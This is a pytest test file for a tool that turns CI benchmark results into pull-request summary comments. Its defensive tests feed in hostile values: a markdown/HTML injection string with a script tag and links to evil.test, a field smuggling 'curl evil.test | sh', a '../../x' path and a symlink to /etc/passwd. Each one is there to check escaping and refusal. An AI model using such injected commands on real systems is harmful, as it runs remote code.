"""The summary of a run in CI: whole texts for each verdict, and text of a stranger that stays text."""

from __future__ import annotations

import json
import math
import shlex

import cmarkgfm
import pytest

from tasks.artifacts import Load, MetricName, Verdict
from tasks.ci.result import FILE, MeasuredBenchmark, Outcome, Result, Settings, read_result
from tasks.ci.summary import LONGEST, summary_of
from tasks.errors import PrprepError
from tests.support.evidence import change

BASE, HEAD = "1f3a" * 10, "9c0d" * 10
TEST = "tests/test_parse.py::test_parse"
HOSTILE = "@acme/all </details><script>x</script> ![](http://evil.test/x) http://evil.test WWW.evil.test eve@evil.test closes #1 |\n# Hi `\n```\n::error::x"


def measured(verdict, *changes, **more):
    shown = {"name": TEST, "settings": Settings(benchmark=TEST), "why": "The interval is wide.", **more}
    return MeasuredBenchmark(outcome=Outcome(verdict), changes=changes, **shown)


def result(*benchmarks, **more):
    shown = {"repository": "acme/sums", "number": 7, "why": 'it claims a speed-up: "faster" in its title', **more}
    return Result(base=BASE, head=HEAD, benchmarks=benchmarks, **shown)


def time(base, head, verdict, **more):
    return change(MetricName.TIME, base, head, verdict, test="test_parse", **more)


IMPROVED = """\
### prprep: improved

**3.00x faster (66.7 % less time, 99 % interval 66.3 % to 67.1 %)** in `test_parse`: 30.00 ms → 10.00 ms per call.

| Test | Metric | Base | Head | Effect | Verdict |
|:---|:---|:---|:---|:---|:---|
| `test_parse` | time | 30.00 ms | 10.00 ms | 3.00x faster (66.7 % less time, 99 % interval 66.3 % to 67.1 %) | improved |

To review:

- The first call is *not* faster.

<details>
<summary>How this was measured, and how to repeat it</summary>

Base `1f3a1f3a1f3a1f3a1f3a1f3a1f3a1f3a1f3a1f3a` (the merge base) and head `9c0d9c0d9c0d9c0d9c0d9c0d9c0d9c0d9c0d9c0d`. \
It was measured because it claims a speed-up: "faster" in its title.

- Apple M3 — 8 cores; load 0.5 before and 1.2 after measuring; the hypervisor took 3 % of the time

```sh
git fetch origin pull/7/head
prprep try 1f3a1f3a1f3a1f3a1f3a1f3a1f3a1f3a1f3a1f3a 9c0d9c0d9c0d9c0d9c0d9c0d9c0d9c0d9c0d9c0d \
tests/test_parse.py::test_parse --memory --budget 5
```
</details>
"""


def test_the_whole_text_of_an_improvement():
    load = Load(before=0.5, after=1.2, cores=8, stolen=0.03)
    settings = Settings(benchmark=TEST, memory=True, budget=5)
    review = ("The first call is *not* faster.",)
    more = {"platform": "Apple M3 — 8 cores", "load": load, "settings": settings, "review": review}
    assert summary_of(result(measured("improved", time(0.03, 0.01, Verdict.IMPROVED), **more))) == IMPROVED


def test_the_verdict_comes_first_and_the_worst_one_counts():
    slower = measured("regressed", time(0.01, 0.03, Verdict.REGRESSED), why="It is slower.")
    same = measured("unchanged", time(0.01, 0.01, Verdict.UNCHANGED), headline="time 0.0 %")
    unclear = measured("inconclusive", time(0.01, 0.01, Verdict.INCONCLUSIVE), headline="time 0.0 %")
    none = MeasuredBenchmark(name="x", settings=Settings(), outcome=Outcome.NOT_MEASURED, why="no benchmark")
    failed = MeasuredBenchmark(name="y", settings=Settings(), outcome=Outcome.FAILED, why="lint failed: it is red")
    several = result(same, slower, none)
    assert (several.outcome, several.headline) == ("regressed", "It is slower.")
    text = summary_of(several)
    assert text.startswith("### prprep: regressed\n\n#### `tests/test_parse.py::test_parse`: unchanged\n")
    assert "**No difference shown: time 0.0 %.** The interval is wide." in text
    assert "**Regression: 3.00x slower (200.0 % more time" in text
    assert "in `test_parse`: 10.00 ms → 30.00 ms per call. It is slower.\n\n| Test |" in text
    assert "#### `x`: not measured\n\nNot measured:\n\n```\nno benchmark\n```" in text
    assert "**Inconclusive: time 0.0 %.** The interval is wide." in summary_of(result(unclear))
    assert [result(*each).outcome for each in ((), (none,), (unclear, same), (slower, failed))] == [
        "not measured",
        "not measured",
        "inconclusive",
        "failed",
    ]


def test_nothing_measured():
    assert summary_of(result(why="it changes none")) == (
        "### prprep: not measured\n\nNothing was measured: it changes none.\n"
    )


@pytest.mark.parametrize("is_foreign", [True, False])
def test_text_of_a_stranger_stays_text(is_foreign):
    lead = time(0.03, 0.01, Verdict.INCONCLUSIVE).model_copy(update={"test": HOSTILE})
    more = {"name": HOSTILE, "why": HOSTILE, "headline": HOSTILE, "review": (HOSTILE,), "platform": HOSTILE}
    settings = Settings(call=f"f('{HOSTILE}')")
    failed = MeasuredBenchmark(name=HOSTILE, settings=settings, outcome=Outcome.FAILED, why=HOSTILE)
    text = summary_of(
        result(measured("inconclusive", lead, settings=settings, **more), failed, why=HOSTILE), is_foreign=is_foreign
    )
    html = cmarkgfm.github_flavored_markdown_to_html(text, cmarkgfm.cmark.Options.CMARK_OPT_UNSAFE)
    assert "<script" not in html
    assert "<img" not in html
    assert "<a " not in html
    assert html.count("<details") == html.count("</details") == 1
    assert html.count("<h") - html.count("<hr") == 3  # our own headings
    outside_of_code = html
    for tag in ("pre", "code"):
        outside_of_code = "".join(part.rpartition(f"</{tag}>")[2] for part in outside_of_code.split(f"<{tag}"))
    assert "@acme" not in outside_of_code
    assert "closes #1" not in outside_of_code
    assert ("prprep try" in text) is not is_foreign
    assert (f"--call {shlex.quote(settings.call)}" in text) is not is_foreign  # as it is, to be copied
    assert ("the fork's code, which could have changed them" in text) is is_foreign


@pytest.mark.slow
def test_a_long_result_fits_into_a_comment():
    changes = tuple(
        time(0.03, 0.01, Verdict.IMPROVED).model_copy(update={"test": f"{n}{'|' * 200}"}) for n in range(500)
    )
    text = summary_of(result(*[measured("improved", *changes, review=["|" * 500] * 30)] * 3))
    assert 2_000 < len(text) <= LONGEST
    assert "more lines are in the workflow's artifact" in text
    longest = summary_of(result(*[measured("improved", *changes, review=["|" * 500] * 30)] * 50))
    assert longest == "### prprep: improved\n\nThe workflow's artifact has the details.\n"


def test_a_result_is_read_as_it_was_written(tmp_path):
    written = result(measured("improved", time(0.03, 0.01, Verdict.IMPROVED)))
    (tmp_path / FILE).write_text(json.dumps(written.model_dump(mode="json")))
    assert read_result(tmp_path) == written


def test_odd_figures_are_shown_or_refused():
    for base, head, low, high in (
        (0, 1, 0, math.inf),
        (1e-300, 1e300, 0, 1),
        (5, 0, 0, 0),
        (1e308, 1e308, 1e308, 1e308),
    ):
        odd = time(0.03, 0.01, Verdict.IMPROVED).model_dump() | {"base": base, "head": head}
        odd["interval"] |= {"ratio": high, "low": low, "high": high}
        try:
            assert "### prprep: improved" in summary_of(result(measured("improved", odd)))
        except PrprepError as error:
            assert "cannot be shown" in str(error)  # noqa: PT017


@pytest.mark.parametrize(
    ("spoil", "message"),
    [
        (lambda it: it.update(head="../../x"), "head"),
        (lambda it: it.update(number=-1), "number"),
        (lambda it: it.update(repository="<!-- -->"), "repository"),
        (lambda it: it.update(more=1), "more"),
        (lambda it: it["benchmarks"][0].update(outcome="great"), "outcome"),
        (lambda it: it["benchmarks"][0]["settings"].update(benchmark="x; curl evil.test | sh"), "benchmark"),
        (lambda it: it["benchmarks"][0]["changes"][0].update(base=math.nan), "a cost is no number"),
        (lambda it: it["benchmarks"][0]["changes"][0].update(head=-1), "a cost is no number"),
        (lambda it: it["benchmarks"][0]["review"].extend(["x"] * 31), "review"),
        (lambda it: it["benchmarks"].extend(it["benchmarks"] * 50), "benchmarks"),
        (lambda it: it.update(version=2), "version"),
    ],
)
def test_what_prprep_would_not_write_is_refused(tmp_path, spoil, message):
    content = result(measured("improved", time(0.03, 0.01, Verdict.IMPROVED))).model_dump(mode="json")
    spoil(content)
    (tmp_path / FILE).write_text(json.dumps(content))
    with pytest.raises(PrprepError, match=message):
        read_result(tmp_path)


def test_a_result_that_is_no_file_is_refused(tmp_path):
    for make in (
        lambda path: None,
        lambda path: path.symlink_to("/etc/passwd"),
        lambda path: path.write_bytes(b" " * 3_000_000),
    ):
        make(tmp_path / FILE)
        with pytest.raises(PrprepError, match="there is no result of `prprep ci`"):
            read_result(tmp_path)
        (tmp_path / FILE).unlink(missing_ok=True)
